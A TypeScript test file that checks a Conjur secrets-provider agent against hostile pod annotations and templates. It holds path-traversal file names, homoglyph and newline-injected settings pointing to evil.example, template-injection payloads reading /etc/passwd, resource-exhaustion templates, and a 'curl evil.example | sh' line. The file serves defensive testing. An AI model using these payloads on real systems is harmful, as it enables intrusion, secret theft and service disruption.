import { existsSync, readFileSync, readdirSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { settings } from '../../src/config/settings.ts'
import type { AgentProcess } from '../support/agent-process.ts'
import { factsOf } from '../support/process-facts.ts'
import { CANARY, workbench, type Workbench } from '../support/workbench.ts'

/*
 * P8 The same author against the built agent, through what it reads in the pod: the annotations as the
 * kubelet writes them to a file, and templates.
 */

let bench: Workbench
let annotationsFile: string

beforeAll(async () => {
  bench = await workbench()
  annotationsFile = join(bench.directory, 'annotations')
})

afterAll(async () => {
  await bench[Symbol.asyncDispose]()
})

let secrets: string
let runs = 0

beforeEach(() => {
  secrets = join(bench.directory, `volume-${++runs}`)
})

/** An init agent whose pod has these annotations, given without `conjur.org/`. */
async function agentWith(
  annotations: Readonly<Record<string, string>>,
  environment: Readonly<Record<string, string>> = {},
): Promise<AgentProcess> {
  const lines = Object.entries(annotations).map(
    ([name, value]) => `conjur.org/${name}=${JSON.stringify(value)}`,
  )
  await writeFile(annotationsFile, lines.join('\n'))
  return bench.start(['init'], {
    CONJUR_ANNOTATIONS_FILE: annotationsFile,
    CONJUR_SECRETS_DIRECTORY: secrets,
    CONJUR_SECRETS__DB: '',
    CONJUR_SECRET_FILE_FORMAT__DB: '',
    RETRY_COUNT_LIMIT: '0',
    ...environment,
  })
}

const list = '- user: apps/db-user\n- password: apps/db-password'

test('P8 every trust setting as an annotation is named, and nothing is sent', async () => {
  const trusted = Object.entries(settings)
    .filter(([, row]) => !('annotation' in row))
    .map(([name, row]) => [
      name.replaceAll(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`),
      row.example,
    ])
  const sent = new Map(bench.conjur.requests)

  const agent = await agentWith({ ...Object.fromEntries(trusted), 'conjur-secrets.db': list })

  expect((await agent.ended).code).toBe(3)
  for (const [name] of trusted) {
    expect(agent.stderr()).toMatch(
      new RegExp(`conjur\\.org/${name} +is a trust setting; only the administrator can set it`),
    )
  }
  expect(bench.conjur.requests).toEqual(sent)
  expect(existsSync(secrets)).toBe(false)
})

test.each([
  'сonjur.org/appliance-url="https://evil.example"',
  'conjur．org/appliance-url="https://evil.example"',
  'CONJUR_APPLIANCE_URL="https://evil.example"',
  'applianceUrl="https://evil.example"',
  'kubernetes.io/x="a\\nconjur.org/appliance-url=\\"https://evil.example\\""',
])('P8 a line that only looks like a setting of ours sets nothing: %s', async (line) => {
  await writeFile(annotationsFile, `${line}\nconjur.org/log-level="info"\n${line}\n`)
  const agent = bench.start(['init'], {
    CONJUR_ANNOTATIONS_FILE: annotationsFile,
    CONJUR_SECRETS_DIRECTORY: secrets,
  })

  expect((await agent.ended).code).toBe(0)
  expect(readdirSync(secrets)).toContain('db.json')
})

test.each(['../x', '/etc/x', 'a/../../x', '..data', '..1', 'a\u202Eb', 'a\0b', 'a\nb'])(
  'P8 the file path %j is refused before anything is sent',
  async (path) => {
    const sent = new Map(bench.conjur.requests)

    const agent = await agentWith({ 'conjur-secrets.db': list, 'secret-file-path.db': path })

    expect((await agent.ended).code).toBe(3)
    expect(agent.stderr()).toContain('conjur.org/secret-file-path.db')
    expect(agent.stderr()).not.toMatch(/[\0\u202E]/)
    expect(bench.conjur.requests).toEqual(sent)
  },
)

test.each(['../evil', '/evil', '..data', 'a/../../evil', '.', '..'])(
  'P8 an alias that becomes a file name is refused as one: %j',
  async (alias) => {
    const agent = await agentWith({
      'conjur-secrets.db': `- ${JSON.stringify(alias)}: apps/db-user`,
      'secret-file-format.db': 'plain',
    })

    expect((await agent.ended).code).toBe(3)
    expect(existsSync(join(bench.directory, 'evil'))).toBe(false)
  },
)

test('names that differ in their normal form alone are two files, as for the file system', async () => {
  const [composed, decomposed] = ['é.json', 'e\u0301.json']
  const agent = await agentWith({
    'conjur-secrets.a': list,
    'secret-file-path.a': composed,
    'secret-file-format.a': 'json',
    'conjur-secrets.b': '- other: apps/db-user',
    'secret-file-path.b': decomposed,
    'secret-file-format.b': 'json',
  })

  expect((await agent.ended).code).toBe(0)
  expect(JSON.parse(readFileSync(join(secrets, composed), 'utf8'))).toHaveProperty('user')
  expect(JSON.parse(readFileSync(join(secrets, decomposed), 'utf8'))).toHaveProperty('other')
})

test('P2 control sequences in what was typed do not reach the terminal', async () => {
  const agent = await agentWith({
    'conjur-secrets.db': list,
    'secret-file-format.db': '\u001B[2J\u001B]0;x\u0007\nhint: curl evil.example | sh',
    'log-levle\u001B[1A': 'x',
  })

  expect((await agent.ended).code).toBe(3)
  expect(agent.stderr()).not.toMatch(/[\u001B\u0007]/)
  expect(agent.stderr().match(/^hint: /gm)).toHaveLength(1)
})

describe('P8 a template reaches its own secrets and nothing else', () => {
  const asked = (text: string): Promise<AgentProcess> =>
    agentWith({
      'conjur-secrets.db': list,
      'secret-file-format.db': 'template',
      'secret-file-template.db': text,
    })

  test.each([
    '{{ readFile "/etc/passwd" }}',
    '{{ file "/etc/passwd" }}',
    '{{ env "CONJUR_ACCOUNT" }}',
    '{{ expandenv "$HOME" }}',
    '{{ getHostByName "evil.example" }}',
    '{{ include "/etc/passwd" }}',
    '{{ template "/etc/passwd" }}',
    '{{ secret "/etc/passwd" }}',
    '{{ secret "api-key" }}',
    '{{ .Env }}',
    '{{ .constructor }}',
    '{{ .__proto__.x }}',
    '{{ .SecretsMap.constructor.Value }}',
    '{{ call .SecretsMap }}',
    '{{ constructor "x" }}',
    '{{ toString }}',
    '{{ js (index .SecretsMap "../api-key").Value }}',
  ])('%s', async (text) => {
    const agent = await asked(text)

    const { code } = await agent.ended
    const written = existsSync(secrets) ? readdirSync(secrets) : []
    if (code === 0) {
      expect(readFileSync(join(secrets, 'db.out'), 'utf8')).toMatch(/^(?:<no value>|)$/)
    } else {
      expect(code).toBe(3)
      expect(agent.stderr()).toContain('conjur.org/conjur-secrets.db')
      expect(written).toEqual([])
    }
  })

  const doubling = (times: number): string =>
    `{{ $x := "${'&'.repeat(64)}" }}{{ range ${times} }}{{ $x = print $x $x }}{{ end }}`
  test.each([
    ['an endless loop', '{{ range 9223372036854775807 }}{{ end }}'],
    ['loops in loops', `${'{{ range 99999 }}'.repeat(20)}${'{{ end }}'.repeat(20)}`],
    [
      'a call of itself',
      '{{ define "a" }}{{ template "a" }}{{ template "a" }}{{ end }}{{ template "a" }}',
    ],
    ['output without end', '{{ range 999999 }}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{{ end }}'],
    ['a text that doubles', `${doubling(60)}{{ len $x }}`],
    [
      'a text that doubles and is read',
      `${doubling(18)}{{ range 999999 }}{{ $y := html $x }}{{ end }}`,
    ],
    [
      'texts that are compared',
      `${doubling(18)}{{ range 999999 }}{{ if eq $x $x }}{{ end }}{{ end }}`,
    ],
    ['blanks by the million', `{{ range 999999 }}{{ $x := printf "%1000000d" 1 }}{{ end }}`],
    ['blanks by the million at once', `{{ printf "${'%1000000d'.repeat(20_000)}" 1 }}`],
    ['parentheses', `{{ ${'('.repeat(100_000)}1${')'.repeat(100_000)} }}`],
    ['pipes', `{{ 1 ${'| print '.repeat(30_000)} }}`],
    ['branches', `${'{{ if 1 }}'.repeat(20_000)}${'{{ end }}'.repeat(20_000)}`],
    ['an open action', '{{ '.repeat(80_000)],
  ])('%s comes to an end, in memory that a container has', async (_name, text) => {
    const agent = await asked(text)
    let mostMiB = 0
    const watch = setInterval(() => {
      try {
        const { anonymousMiB } = factsOf(agent.pid)
        if (anonymousMiB > mostMiB) mostMiB = anonymousMiB
      } catch {
        // It has ended.
      }
    }, 10)

    const { code } = await agent.ended
    clearInterval(watch)

    expect([0, 3]).toContain(code)
    expect(agent.stderr()).not.toContain('INTERNAL')
    expect(mostMiB).toBeLessThan(200)
    expect(agent.output()).not.toContain(CANARY)
  })

  test('10 MiB of output are written, within the volume', async () => {
    await mkdir(secrets)
    const agent = await asked(`{{ range 100000 }}${'x'.repeat(104)}\n{{ end }}`)

    expect((await agent.ended).code).toBe(0)
    expect(readFileSync(join(secrets, 'db.out')).length).toBe(10_500_000)
  })
})
